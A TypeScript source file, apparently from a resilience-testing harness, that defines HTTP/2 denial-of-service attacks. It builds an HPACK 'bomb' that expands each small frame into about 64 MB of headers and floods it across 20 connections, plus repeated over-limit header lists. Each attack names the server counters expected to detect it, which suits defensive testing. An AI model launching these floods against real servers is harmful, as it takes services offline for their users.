import type { Attack, AttackTarget } from '../attack.ts';
import { writeForEver } from '../attack-sockets.ts';
import { field, headers, indexedField, maxFrameBytes, newestEntry, requestBlock } from '../http2-frames.ts';
import { keepSessionsOpen } from '../http2-session.ts';

/** One frame stands for a list of 64 MB. */
const bomb = Buffer.alloc(maxFrameBytes - 100, newestEntry);
/** With 32 bytes for its bookkeeping it just fits into a table of 4 KiB. */
const bombValue = 'x'.repeat(4000);

export const hpackBomb: Attack = {
  name: 'http2-hpack-bomb',
  summary: 'HTTP/2: header lists of 64 MB in frames of 16 KiB, at full speed',
  connections: 20,
  noticedBy: ['http2.header_overflow', 'http2.header_list_size_too_large'],
  start({ host }, sockets, connections) {
    const first = requestBlock('GET', host, '/abuse/small', indexedField('x', bombValue));
    const block = requestBlock('GET', host, '/abuse/small', bomb);
    keepSessionsOpen(sockets, connections, (socket, ids) => {
      socket.write(headers(ids.take(), first));
      writeForEver(socket, () => headers(ids.take(), block));
    });
  },
};

/** One request at a time on each connection, the next one after whatever came for the one before. */
function repeated(name: string, summary: string, fields: readonly Buffer[]): Attack {
  return {
    name: `http2-${name}`,
    summary: `HTTP/2: ${summary}, one after the other`,
    connections: 20,
    noticedBy: ['http2.header_overflow', 'downstream_cx_protocol_error'],
    start({ host }: AttackTarget, sockets, connections) {
      const block = requestBlock('GET', host, '/abuse/small', ...fields);
      keepSessionsOpen(sockets, connections, (socket, ids) => {
        const next = (): void => void socket.write(headers(ids.take(), block));
        socket.on('data', next);
        next();
      });
    },
  };
}

export const largeLists = repeated('large-lists', 'header lists of 70 KiB, over the limit', [
  field('x-a', 'x'.repeat(70 * 1024)),
]);

export const manyFieldsInList = repeated(
  'many-fields',
  'header lists of 200 fields, over the limit',
  Array.from({ length: 200 }, (_, index) => field(`x-field-${index}`, 'v'.repeat(40))),
);
